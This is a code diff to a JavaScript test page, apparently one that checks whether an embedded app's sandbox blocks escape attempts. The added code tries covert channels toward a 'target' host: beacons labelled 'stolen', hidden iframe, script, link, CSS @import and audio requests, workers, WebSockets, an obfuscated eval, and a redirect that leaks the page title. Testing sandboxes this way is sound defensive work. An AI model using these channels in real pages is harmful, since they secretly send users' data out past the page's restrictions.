@@ -19,6 +19,11 @@ document.getElementById("change").addEventListener("click", async () => {
     show("changed", `refused: ${error.message}`);
   }
 });
+document.getElementById("send").addEventListener("click", () => {
+  const form = Object.assign(document.createElement("form"), { action: `${target}form`, method: "post" });
+  document.body.append(form);
+  form.submit();
+});
 document.getElementById("away").addEventListener("click", () => {
   location.href = `${target}?stolen=${encodeURIComponent(document.title)}`;
 });
@@ -28,6 +33,22 @@ const attempts = {
   parent: () => parent.parent.document.title,
   cookie: () => document.cookie,
   storage: () => localStorage.length,
+  "session storage": () => sessionStorage.length,
+  database: async () =>
+    await new Promise((resolve, reject) => {
+      const opening = indexedDB.open("kept");
+      opening.addEventListener("success", () => resolve("opened"));
+      opening.addEventListener("error", reject);
+    }),
+  cache: async () => typeof (await caches.open("kept")),
+  "service worker": async () => typeof (await navigator.serviceWorker.register(`${target}worker.js`)),
+  worker: async () => await opened(new Worker(`${target}worker.js`)),
+  "worker of its own": async () => {
+    const source = URL.createObjectURL(new Blob([`fetch("${target}").finally(() => postMessage(1))`]));
+    return await opened(new Worker(source));
+  },
+  socket: async () => await opened(new WebSocket(target.replace("http", "ws"))),
+  events: async () => await opened(new EventSource(`${target}events`)),
   evaluated: () => globalThis[["ev", "al"].join("")]("1"),
   fetched: async () => (await fetch(target, { mode: "no-cors" })).type,
   popup: () => (window.open(target) === null ? Promise.reject(new Error("no")) : "opened"),
@@ -44,6 +65,37 @@ const attempts = {
     }),
 };
 
+/** Waits for the first word of something that speaks, or for its failure. */
+async function opened(source) {
+  return await new Promise((resolve, reject) => {
+    for (const type of ["open", "message"]) source.addEventListener(type, () => resolve("opened"));
+    source.addEventListener("error", reject);
+  });
+}
+
+/** What tells its page nothing of what came of it: only whoever listens at the target knows. */
+function sendUnseen() {
+  navigator.sendBeacon(`${target}beacon`, "stolen");
+  for (const [rel, as] of [
+    ["prefetch", ""],
+    ["preload", "script"],
+    ["stylesheet", ""],
+    ["icon", ""],
+    ["manifest", ""],
+    ["modulepreload", ""],
+  ]) {
+    const link = Object.assign(document.createElement("link"), { rel, href: `${target}${rel}` });
+    if (as !== "") link.as = as;
+    document.head.append(link);
+  }
+  const frame = Object.assign(document.createElement("iframe"), { src: `${target}frame` });
+  const script = Object.assign(document.createElement("script"), { src: `${target}script` });
+  const style = document.createElement("style");
+  style.textContent = `@import "${target}import"; body { background: url("${target}background") }`;
+  const sound = Object.assign(document.createElement("audio"), { src: `${target}sound`, preload: "auto" });
+  document.body.append(frame, script, style, sound);
+}
+
 async function tryAll() {
   const found = {};
   for (const [name, attempt] of Object.entries(attempts))
@@ -59,6 +111,7 @@ async function main() {
   await app.connect();
   const { structuredContent } = await app.callServerTool({ name: "read-clock", arguments: {} });
   show("read", structuredContent);
+  sendUnseen();
   show("attempts", await tryAll());
 }
 
